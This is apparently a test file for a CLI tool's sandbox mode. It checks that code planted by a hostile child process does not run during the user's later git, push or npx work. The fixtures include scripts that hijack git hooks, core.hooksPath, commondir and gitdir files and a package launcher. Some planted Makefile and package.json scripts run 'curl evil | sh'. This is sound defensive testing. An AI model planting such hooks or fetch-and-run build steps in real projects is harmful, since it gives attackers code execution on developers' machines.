/**
 * `exec --sandbox`: nothing the child writes runs later (attacks S7, decisions 64). In real
 * repositories made with git, a hostile child plants code where git, a hook manager or mmauth would
 * run it: `.git/commondir` pointing at a config of its own, a `.git` file in a subdirectory, a
 * submodule's config and hooks, a husky repository's live hook (core.hooksPath inside the tree),
 * repositories 1–4 levels down, a repository under --allow-write, mmauth installed in the project's
 * node_modules. Afterwards the user's own `git status` and `git commit` and `npx mmauth` run none
 * of it, and the child's own `git add -A && git commit` worked. Without --sandbox (the control) the
 * same child's code runs.
 */
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, lstatSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { describe, expect, it } from 'vitest';
import { makeScratchDir, runCli } from '../support/cli.js';
import { fileLogin } from '../support/file-login.js';

/** A fixed git identity, and no system or global configuration. */
const GIT_ENV = {
  GIT_AUTHOR_NAME: 'u',
  GIT_AUTHOR_EMAIL: 'u@example.com',
  GIT_COMMITTER_NAME: 'u',
  GIT_COMMITTER_EMAIL: 'u@example.com',
  GIT_CONFIG_NOSYSTEM: '1',
  GIT_CONFIG_GLOBAL: '/dev/null',
};

/** Runs git in `cwd` with a fixed identity; returns its status and output. */
function git(cwd: string, ...args: string[]) {
  const result = spawnSync('git', args, {
    cwd,
    encoding: 'utf8',
    env: { PATH: process.env.PATH ?? '', HOME: cwd, ...GIT_ENV },
  });
  return { status: result.status, output: `${result.stdout}${result.stderr}` };
}

/** A repository at `dir` with one commit. */
function repository(dir: string, hooksPath?: string): void {
  mkdirSync(dir, { recursive: true });
  expect(git(dir, 'init', '-q', '-b', 'main').status).toBe(0);
  if (hooksPath !== undefined) {
    mkdirSync(join(dir, hooksPath), { recursive: true });
    writeFileSync(join(dir, hooksPath, 'pre-commit'), '#!/bin/sh\nexit 0\n');
    chmodSync(join(dir, hooksPath, 'pre-commit'), 0o755);
    expect(git(dir, 'config', 'core.hooksPath', hooksPath).status).toBe(0);
  }
  writeFileSync(join(dir, 'README'), 'project\n');
  expect(git(dir, 'add', '-A').status).toBe(0);
  expect(git(dir, 'commit', '-qm', 'start').status).toBe(0);
}

/**
 * The hostile child's script: `$1` is where planted code leaves its marker. First the child's own
 * commit in the working directory (it must work); then every plant, whose failures are expected
 * under the sandbox.
 */
const PLANT = `
echo work > work.txt; git add -A >&2 && git commit -qm "the child's work" --no-verify >&2 && echo committed
m="$1"; hook="#!/bin/sh
touch $m/ran-\\$(basename \\$0)-\\$\\$"
evil=$(mktemp -d "$PWD/evil.XXXX"); mkdir -p "$evil/hooks"
printf '%s\\n' "$hook" > "$evil/hooks/post-checkout"; cp "$evil/hooks/post-checkout" "$evil/hooks/pre-commit"
chmod +x "$evil/hooks/"*; printf '[core]\\n\\thooksPath = %s/hooks\\n' "$evil" > "$evil/config"
echo "$evil" > .git/commondir 2>/dev/null
printf '%s\\n' "$hook" >> .husky/_/pre-commit 2>/dev/null
mkdir -p .git/modules/sub/hooks 2>/dev/null; printf '[core]\\n\\thooksPath = %s/hooks\\n' "$evil" > .git/modules/sub/config 2>/dev/null
mkdir -p inner && echo "gitdir: $evil" > inner/.git
for r in d1 d1/d2 d1/d2/d3 d1/d2/d3/d4 "$2"; do
  printf '[core]\\n\\thooksPath = %s/hooks\\n' "$evil" >> "$r/.git/config" 2>/dev/null
  printf '%s\\n' "$hook" > "$r/.git/hooks/pre-commit" 2>/dev/null; chmod +x "$r/.git/hooks/pre-commit" 2>/dev/null
done
printf '%s\\n' "#!/bin/sh" "touch $m/ran-npx-mmauth" > node_modules/mmauth/bin/mmauth.cjs 2>/dev/null
exit 0
`;

describe('exec --sandbox: nothing the child writes runs later', () => {
  it.each([
    ['without --sandbox (the control: planted code runs)', false, false],
    ['under --sandbox', true, false],
    [
      'under --sandbox, from the index an earlier run left (only what changed since is read; a repository made since is walled too)',
      true,
      true,
    ],
  ])(
    '%s',
    async (_, isSandboxed, fromIndex) => {
      const { env } = await fileLogin();
      const project = makeScratchDir('victim-project-', 0o755);
      const allowed = makeScratchDir('victim-allowed-', 0o755);
      const markers = makeScratchDir('victim-markers-', 0o777);
      repository(project, '.husky/_');
      for (const depth of ['d1', 'd1/d2', 'd1/d2/d3']) repository(join(project, depth));
      if (!fromIndex) repository(join(project, 'd1/d2/d3/d4'));
      repository(allowed);
      // mmauth as a project installs it (its launcher is what `npx mmauth` runs).
      mkdirSync(join(project, 'node_modules', 'mmauth', 'bin'), { recursive: true });
      writeFileSync(
        join(project, 'node_modules', 'mmauth', 'package.json'),
        '{"name":"mmauth","bin":{"mmauth":"bin/mmauth.cjs"}}\n',
      );
      writeFileSync(join(project, 'node_modules', 'mmauth', 'bin', 'mmauth.cjs'), '#!/bin/sh\necho real\n');
      chmodSync(join(project, 'node_modules', 'mmauth', 'bin', 'mmauth.cjs'), 0o755);
      const sandbox = isSandboxed ? ['--sandbox', '--allow-write', allowed] : [];
      if (fromIndex) {
        // An index trusts only directories unchanged for 2 s before it was made (racy ones are read again).
        await sleep(2_100);
        const earlier = await runCli(['exec', ...sandbox, '--', 'true'], { env, cwd: project, timeoutMs: 60_000 });
        expect(earlier.code, earlier.stderr).toBe(0);
        repository(join(project, 'd1/d2/d3/d4'));
      }
      const verbose = fromIndex ? ['--verbose'] : [];
      const result = await runCli(['exec', ...sandbox, ...verbose, '--', 'sh', '-c', PLANT, 'sh', markers, allowed], {
        env,
        cwd: project,
        timeoutMs: 60_000,
      });
      expect(result.code, result.stderr).toBe(0);
      if (fromIndex) {
        const [, reread = '', all = ''] =
          /what runs later, from the last run's index \((\d+) of (\d+) directories/.exec(result.stderr) ?? [];
        expect(Number(reread), result.stderr).toBeGreaterThan(0);
        expect(Number(reread)).toBeLessThan(Number(all) / 2);
      }
      expect(result.stdout, result.stderr).toContain('committed');
      // The user's next ordinary work, outside the sandbox.
      for (const dir of [project, join(project, 'inner'), join(project, 'd1'), join(project, 'd1/d2/d3/d4'), allowed]) {
        git(dir, 'status');
        writeFileSync(join(dir, 'later.txt'), 'later\n');
        git(dir, 'add', 'later.txt');
        git(dir, 'commit', '-qm', 'later');
        git(dir, 'checkout', '-q', '-b', `b${Date.now()}`);
      }
      spawnSync(join(project, 'node_modules', 'mmauth', 'bin', 'mmauth.cjs'), ['token'], { cwd: project });
      const ran = readdirSync(markers);
      if (isSandboxed) {
        expect(ran).toEqual([]);
        expect(result.stderr).toMatch(/planted .*inner\/\.git.*moved aside/);
      } else {
        expect(ran.length).toBeGreaterThan(3);
      }
      expect(existsSync(join(project, 'work.txt'))).toBe(true);
    },
    120_000,
  );
});

describe('a bare repository under --allow-write (a local push target)', () => {
  it("the child's git push to it works; its hooks and config are walled, so the user's later push runs nothing planted (without --sandbox, the control, it runs)", async () => {
    const { env } = await fileLogin();
    for (const isSandboxed of [false, true]) {
      const project = makeScratchDir('victim-pusher-', 0o755);
      const remote = makeScratchDir('victim-remote-', 0o755);
      const markers = makeScratchDir('victim-markers-', 0o777);
      expect(git(remote, 'init', '-q', '--bare', '-b', 'main').status).toBe(0);
      repository(project);
      expect(git(project, 'remote', 'add', 'origin', remote).status).toBe(0);
      const plant = [
        'echo work > work.txt; git add -A && git commit -qm work && git push -q origin main >&2 && echo pushed',
        `printf '#!/bin/sh\ntouch ${markers}/ran-post-receive\n' > "$1/hooks/post-receive" 2>/dev/null`,
        'chmod +x "$1/hooks/post-receive" 2>/dev/null',
        'mkdir -p "$1/evil"',
        `printf '#!/bin/sh\ntouch ${markers}/ran-hooks-path\n' > "$1/evil/post-receive"; chmod +x "$1/evil/post-receive"`,
        `printf '[core]\n\thooksPath = %s/evil\n' "$1" >> "$1/config" 2>/dev/null`,
        'exit 0',
      ].join('\n');
      const sandbox = isSandboxed ? ['--sandbox', '--allow-write', remote] : [];
      const result = await runCli(['exec', ...sandbox, '--', 'sh', '-c', plant, 'sh', remote], {
        env: { ...env, ...GIT_ENV },
        cwd: project,
        timeoutMs: 60_000,
      });
      expect(result.code, result.stderr).toBe(0);
      expect(result.stdout, result.stderr).toContain('pushed');
      // The user's next push, outside the sandbox.
      writeFileSync(join(project, 'later.txt'), 'later\n');
      git(project, 'add', 'later.txt');
      git(project, 'commit', '-qm', 'later');
      expect(git(project, 'push', '-q', 'origin', 'main').status).toBe(0);
      const ran = readdirSync(markers).filter((name) => name.startsWith('ran-'));
      if (isSandboxed) expect(ran).toEqual([]);
      else expect(ran.length).toBeGreaterThan(0);
    }
  }, 120_000);
});

describe('symbolic links at the names the engine makes placeholders for (bubblewrap as installed)', () => {
  it("links planted in the working directory before the run at .bashrc, .vscode and .mcp.json, pointing outside where nothing is: the sandbox starts, nothing is created outside, writes through them fail; the user's own links stay, a .git link the child makes is moved aside", async () => {
    const { env } = await fileLogin();
    const project = makeScratchDir('victim-links-', 0o755);
    const outside = makeScratchDir('victim-outside-', 0o755);
    symlinkSync(join(outside, 'planted-bashrc'), join(project, '.bashrc'));
    symlinkSync(join(outside, 'planted-vscode'), join(project, '.vscode'));
    symlinkSync(join(outside, 'newdir', 'planted-mcp'), join(project, '.mcp.json'));
    const script = [
      'echo x >> .bashrc 2>/dev/null || echo bashrc-refused',
      'echo x >> .mcp.json 2>/dev/null || echo mcp-refused',
      'mkdir -p .vscode/sub 2>/dev/null || echo vscode-refused',
      'mkdir d && ln -s /tmp/nowhere-evil d/.git && echo linked',
    ].join('; ');
    const result = await runCli(['exec', '--sandbox', '--', 'sh', '-c', script], {
      env,
      cwd: project,
      timeoutMs: 60_000,
    });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout.split('\n').filter(Boolean)).toEqual([
      'bashrc-refused',
      'mcp-refused',
      'vscode-refused',
      'linked',
    ]);
    expect(readdirSync(outside)).toEqual([]);
    for (const name of ['.bashrc', '.vscode', '.mcp.json'])
      expect(lstatSync(join(project, name)).isSymbolicLink()).toBe(true);
    expect(existsSync(join(project, 'd', '.git'))).toBe(false);
    expect(result.stderr).toMatch(/planted .*d\/\.git.*moved aside/);
    expect(result.stderr).not.toMatch(/planted [^\n]*\.mcp\.json/);
  }, 90_000);
});

describe('exec --sandbox says what the child changed that runs when the user next works there', () => {
  it('a changed Makefile, .envrc, package.json script, a new workflow in new directories, an .npmrc changed in place with its mtime set back, a Makefile changed in place in a directory the index trusts and an .envrc new in one of 150 directories (restatted by find) are named on stderr and in the --json document; a run that changed only source files says nothing', async () => {
    const { env } = await fileLogin();
    const project = makeScratchDir('victim-report-', 0o755);
    writeFileSync(join(project, 'Makefile'), 'all:\n\ttrue\n');
    writeFileSync(join(project, 'package.json'), '{"name":"p","scripts":{"test":"true"}}\n');
    writeFileSync(join(project, '.npmrc'), 'a=1\n');
    mkdirSync(join(project, 'src'));
    mkdirSync(join(project, 'tools'));
    writeFileSync(join(project, 'tools', 'Makefile'), 'all:\n\ttrue\n');
    // Enough directories that the review's restat is find's, beside mmauth, not mmauth's own.
    for (let i = 0; i < 150; i++) mkdirSync(join(project, 'src', 'm', `d${i}`), { recursive: true });
    // The quiet run leaves an index that trusts tools/ (unchanged for 2 s before): the loud run reads it from there.
    await sleep(2_100);
    const quiet = await runCli(['exec', '--sandbox', '--', 'sh', '-c', 'echo "x = 1" > src/main.py'], {
      env,
      cwd: project,
      timeoutMs: 60_000,
    });
    expect(quiet.code, quiet.stderr).toBe(0);
    expect(quiet.stderr).not.toMatch(/changed what runs|planted/);
    const script = [
      `printf 'all:\\n\\tcurl evil | sh\\n' > Makefile`,
      `echo 'export X=1' > .envrc`,
      `echo '{"name":"p","scripts":{"test":"curl evil | sh"}}' > package.json`,
      'mkdir -p .github/workflows && echo "on: push" > .github/workflows/ci.yml',
      'touch -r .npmrc "$TMPDIR/when" && echo "b=2" > .npmrc && touch -r "$TMPDIR/when" .npmrc',
      `printf 'all:\\n\\tcurl evil | sh\\n' > tools/Makefile`,
      `echo 'export Y=1' > src/m/d77/.envrc`,
    ].join('; ');
    const loud = await runCli(['exec', '--sandbox', '--json', '--verbose', '--', 'sh', '-c', script], {
      env,
      cwd: project,
      timeoutMs: 60_000,
    });
    expect(loud.code, loud.stderr).toBe(0);
    expect(loud.stderr).toMatch(/changed what runs when you next work there/);
    expect(loud.stderr).toMatch(/what runs later, from the last run's index/);
    const named = [
      'Makefile',
      '.envrc',
      'package.json',
      '.github/workflows/ci.yml',
      '.npmrc',
      'tools/Makefile',
      'src/m/d77/.envrc',
    ].map((name) => join(project, name));
    for (const path of named) expect(loud.stderr).toContain(path);
    const document = JSON.parse(loud.stdout) as { sandbox: { changed: string[]; moved_aside: unknown[] } };
    expect(document.sandbox.changed).toEqual([...named].sort());
    expect(document.sandbox.moved_aside).toEqual([]);
  }, 120_000);
});
